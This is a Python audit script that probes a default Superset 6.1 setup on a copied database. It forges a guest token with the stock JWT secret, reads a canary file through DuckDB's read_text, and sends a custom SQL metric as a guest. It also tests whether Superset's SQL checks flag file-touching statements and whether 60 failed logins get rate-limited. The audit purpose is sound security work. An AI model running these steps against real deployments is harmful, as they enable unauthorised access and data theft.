"""Superset 6.1 as it comes, on a copy of the citizens' metadata: which holes stand open without superset_config. JSON; Superset's environment.

STOCK_STATE is a folder with the copied superset.db; STOCK_CANARY a file that nobody may read.
"""

import io
import json
import logging
import os
import sys
import time
from contextlib import redirect_stdout
from pathlib import Path

state = Path(os.environ["STOCK_STATE"])
os.environ["SUPERSET_ENV"] = "production"  # without it not even a login limit is on
(state / "stock_config.py").write_text(
    f"""
SECRET_KEY = "x" * 30 + "0123456789"
SQLALCHEMY_DATABASE_URI = "sqlite:///{state}/superset.db?check_same_thread=false"
FEATURE_FLAGS = {{"EMBEDDED_SUPERSET": True, "DASHBOARD_RBAC": True}}
GUEST_ROLE_NAME = "guest"
WTF_CSRF_ENABLED = False
RATELIMIT_STORAGE_URI = "memory://"
TALISMAN_ENABLED = False
"""
)
os.environ["SUPERSET_CONFIG_PATH"] = str(state / "stock_config.py")
logging.disable(logging.CRITICAL)
with redirect_stdout(io.StringIO()):
    import jwt
    from superset.app import create_app

    app = create_app()
    from superset.config import GUEST_TOKEN_JWT_SECRET
    from superset.sql.parse import SQLScript

canary = os.environ["STOCK_CANARY"]
found: dict = {"guest_secret": GUEST_TOKEN_JWT_SECRET}
with app.app_context():
    from superset.extensions import db, security_manager
    from superset.models.core import Database
    from superset.models.dashboard import Dashboard
    from superset.models.slice import Slice

    dashboard = db.session.query(Dashboard).filter_by(slug="citizen").one()
    chart = db.session.query(Slice).filter(Slice.slice_name.like("น้ำประปา%")).one()
    audience = security_manager._get_guest_token_jwt_audience()
    number, embedded = dashboard.id, str(dashboard.embedded[0].uuid)
    body = json.loads(chart.query_context)
    body["form_data"] |= {"slice_id": chart.id, "dashboardId": number}
    user = security_manager.find_user("embedder")
    database = db.session.query(Database).one()
    database.extra = json.dumps({"engine_params": {"connect_args": {"read_only": True}}})
    db.session.commit()
    # Superset's own two judges of a statement, and what a read-only connection does with it then.
    script = SQLScript(f"select * from read_text('{canary}')", "duckdb")
    functions = script.check_functions_present(app.config["DISALLOWED_SQL_FUNCTIONS"].get("duckdb", set()))
    found["file_is_read"] = database.get_df(f"select content from read_text('{canary}')").iloc[0, 0]
    found["file_is_judged"] = script.has_mutation() or functions
    statements = [
        "CALL enable_logging(storage='file', storage_config={'path': '/x'})",
        "ATTACH '/x.duckdb' AS other",
        "COPY (SELECT 1) TO '/x'",
        "INSTALL x",
    ]
    found["mutates"] = {sql.split()[0]: SQLScript(sql, "duckdb").has_mutation() for sql in statements}

now = time.time()
claims = {"user": {"username": "x"}, "resources": [{"type": "dashboard", "id": embedded}], "rls_rules": [], "iat": now, "exp": now + 600}
token = jwt.encode(claims | {"aud": audience, "type": "guest"}, GUEST_TOKEN_JWT_SECRET, algorithm="HS256")
with app.test_client() as guest:
    sent = {"X-GuestToken": token}
    found["forged_token"] = guest.get(f"/api/v1/dashboard/{number}", headers=sent).status_code
    other = {"expressionType": "SQL", "sqlExpression": "max(fiscal_quarter_label_th) || version()", "label": "own"}
    body["queries"][0] |= {"columns": ["month_label_th"], "metrics": [other], "orderby": [], "post_processing": []}
    answer = guest.post("/api/v1/chart/data", json=body, headers=sent)
    found["guest_asks_more"] = answer.status_code, len(answer.json["result"][0]["data"]) if answer.status_code == 200 else answer.text[:300]
    wish = {"username": "embedder", "password": "wrong", "provider": "db"}
    tries = [guest.post("/api/v1/security/login", json=wish).status_code for _ in range(60)]
    found["wrong_logins"] = {str(status): tries.count(status) for status in set(tries)}
json.dump(found, sys.stdout)
